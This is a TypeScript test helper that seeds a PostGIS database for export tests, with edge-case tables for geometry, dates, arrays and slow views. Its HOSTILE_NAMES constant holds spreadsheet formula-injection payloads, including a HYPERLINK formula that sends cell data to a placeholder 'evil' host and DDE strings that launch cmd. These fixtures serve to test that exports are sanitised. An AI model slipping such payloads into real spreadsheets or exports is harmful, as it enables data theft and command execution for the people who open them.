import { execFile, spawnSync } from 'node:child_process';
import { promisify } from 'node:util';
import { migrate, openDb } from '../../src/db/index.js';

const run = promisify(execFile);

/** Whether GDAL's ogrinfo is installed: the GDAL assertions are skipped without it. */
export const hasGdal = spawnSync('ogrinfo', ['--version'], { encoding: 'utf8' }).status === 0;

export async function ogrinfo(file: string, ...args: string[]): Promise<string> {
  const r = await run('ogrinfo', ['-ro', ...args, file], { timeout: 60_000 });
  return `${r.stdout}${r.stderr}`;
}

/** Stops in the seeded database; the first three carry the formula-injection names of issue 29. */
export const STOPS = 300;
export const HOSTILE_NAMES = ['=HYPERLINK("http://evil/?"&A1,"x")', "+cmd|' /C calc'!A0", '@SUM(1+1)*cmd|x'];

/**
 * efa's own tables (a run, stops in a 0.3° square from 9,48), and tables an operator added to schema
 * efa: an EMPTY geometry and infinite times (op_mixed), a column in EPSG:3857 (op_merc), one without
 * an SRID (op_nosrid), arrays (op_arrays), and a view of 4,000 rows to export slowly (op_slow, with the
 * export-batch failpoint's delay: test/export/files.test.ts).
 */
export async function seedExportDb(url: string): Promise<void> {
  const db = await openDb(url);
  try {
    await migrate(db);
    const hostile = HOSTILE_NAMES.map((n, i) => `WHEN ${i + 1} THEN '${n.replace(/'/g, "''")}'`).join(' ');
    await db.exec(`
      INSERT INTO efa.runs (run_id, job_name, job_hash, source, status) VALUES (1, 'seed', 'h', 'seed', 'succeeded');
      INSERT INTO efa.pins (source, pin_key, type, id, name, mot_types, geom, attrs, content_hash, first_run, changed_run)
      SELECT 'seed', 'stop:' || i, 'STOP', 'de:' || i, CASE i ${hostile} ELSE 'Stop ' || i END, ARRAY[1, i % 10],
             ST_SetSRID(ST_MakePoint(9 + i * 1e-3, 48 + i * 1e-3), 4326), jsonb_build_object('k', i), 'h', 1, 1
      FROM generate_series(1, ${STOPS}) i;
      INSERT INTO efa.sharing_providers (source, provider_id, name, vehicle_type, content_hash, first_run, changed_run)
      VALUES ('seed', 'p1', 'Bikes', 'bike', 'h', 1, 1);
      INSERT INTO efa.operating_areas (source, area_key, provider_id, area_id, name, geom, content_hash, first_run, changed_run)
      VALUES ('seed', 'p1/a', 'p1', 'a', 'Area A', ST_Multi(ST_MakeEnvelope(9, 48, 9.1, 48.1, 4326)), 'h', 1, 1);
      CREATE TABLE efa.op_mixed (id int PRIMARY KEY, label text, delta int, valid_until timestamptz, day date, geom geometry(Geometry, 4326));
      INSERT INTO efa.op_mixed VALUES
        (1, '-minus', -5, 'infinity', '-infinity', 'POINT EMPTY'::geometry),
        (2, 'ok', 3, '2026-01-01T00:00:00Z', '2026-01-02', ST_GeomFromText('POINT(9.5 48.5)', 4326)),
        (3, 'poly', -1, '2026-01-03T00:00:00Z', '2026-01-03', ST_GeomFromText('POLYGON((9 48,9.1 48,9.1 48.1,9 48))', 4326));
      CREATE TABLE efa.op_merc (id int PRIMARY KEY, geom geometry(Point, 3857));
      INSERT INTO efa.op_merc VALUES (1, ST_Transform(ST_SetSRID(ST_MakePoint(9.18, 48.78), 4326), 3857));
      CREATE TABLE efa.op_nosrid (id int PRIMARY KEY, geom geometry);
      INSERT INTO efa.op_nosrid VALUES (1, 'POINT(1 2)'::geometry);
      CREATE TABLE efa.op_arrays (id int PRIMARY KEY, ints int[], bigs int8[], names text[]);
      INSERT INTO efa.op_arrays VALUES (1, '{1,2,NULL}', '{9007199254740993}', '{a,"b,c",NULL}'), (2, NULL, '{}', '{}');
      CREATE VIEW efa.op_slow AS SELECT i AS id, 'pause'::text AS pause FROM generate_series(1, 4000) i;`);
  } finally {
    await db.close();
  }
}
